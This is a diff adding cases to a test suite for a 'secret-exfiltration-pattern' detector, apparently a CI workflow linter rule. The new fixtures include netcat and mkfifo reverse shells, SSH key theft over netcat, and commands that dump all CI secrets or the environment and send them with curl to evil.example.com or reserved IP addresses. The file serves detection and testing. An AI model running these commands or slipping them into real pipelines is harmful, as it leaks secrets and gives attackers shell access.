@@ -30,6 +30,9 @@ describe("secret-exfiltration-pattern stays silent", () => {
     ["a decoded file", run('echo "$TOKEN" | base64 -d > key.json', `curl ${HOST}`)],
     ["a part of the environment", run(`env | grep ^CI_ | curl -d @- ${HOST}`)],
     ["one variable", run(`printenv HOME | curl -d @- ${HOST}`)],
+    ["the environment for later steps", run('env > "$GITHUB_ENV"', `curl -d @body.json ${HOST}`)],
+    ["a file with the environment that stays", run("env > env.txt", `curl -T build.log ${HOST}`)],
+    ["a file with one secret", run('echo "$TOKEN" > key.json', `curl -F "key=@key.json" ${HOST}`)],
     ["the environment in the log", run("env | sort", `curl ${HOST}`)],
     ["a program behind env", run(`env A=b make | curl -d @- ${HOST}`)],
     ["options of the shell", run("set -e", `curl ${HOST}`)],
@@ -93,6 +96,23 @@ describe("secret-exfiltration-pattern reports", () => {
     ["a key by Netcat", run("cat ~/.ssh/id_rsa | nc evil.example.com 4444"), ["10:31 medium"]],
     ["Netcat to a bare address", run("nc 203.0.113.5 4444"), ["10:11 medium"]],
     ["a shell by Netcat", run("nc -e /bin/bash evil.example.com 4444"), ["10:11 medium"]],
+    [
+      "a shell through a pipe",
+      run("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.75 32032 >/tmp/f"),
+      ["10:65 medium"],
+    ],
+    [
+      "a file with all secrets",
+      run('echo "${{ toJSON(secrets) }}" > .x', "curl --data @.x https://evil.example.com"),
+      ["11:11 medium"],
+    ],
+    [
+      "a file with the environment",
+      run("env | sort > e.txt", "curl -F 'f=@e.txt' https://evil.example.com"),
+      ["11:11 medium"],
+    ],
+    ["a file that Netcat reads", run("printenv > e", "nc evil.example.com 9 < e"), ["11:11 medium"]],
+    ["the environment to a variable's host", run('env | curl -d @- "$COLLECTOR"'), ["10:17 medium"]],
     ["a shell by Bash", run("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), ["10:11 medium"]],
     [
       "the step's own variable",
